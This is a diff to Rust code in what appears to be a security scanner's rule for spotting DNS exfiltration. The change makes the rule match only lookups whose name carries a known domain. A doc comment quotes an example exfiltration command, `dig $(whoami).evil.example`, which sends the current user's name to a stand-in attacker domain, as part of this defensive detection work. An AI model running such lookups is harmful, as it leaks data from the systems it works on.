@@ -573,11 +573,15 @@ fn metadata_endpoint(call: &Call, _: &Scope) -> Option<String> {
 }
 
 /// A lookup of a name built from data (`dig $(whoami).evil.example`): a send whose payload
-/// is the name (`Payload::Name`), whichever resolver and wrapper make it.
+/// is the name (`Payload::Name`), whichever resolver and wrapper make it. A name that is all
+/// data (`nslookup $DOMAIN`) names no zone of its own: what feeds it is judged like any send's.
 fn dns_exfiltration(call: &Call, _: &Scope) -> Option<String> {
     sends(call).find_map(|sent| {
         sent.items.iter().find_map(|i| match i {
-            Payload::Name { name, domain } => Some(format!(
+            Payload::Name {
+                name,
+                domain: Some(domain),
+            } => Some(format!(
                 "the looked-up name `{name}` carries data to {domain}"
             )),
             _ => None,
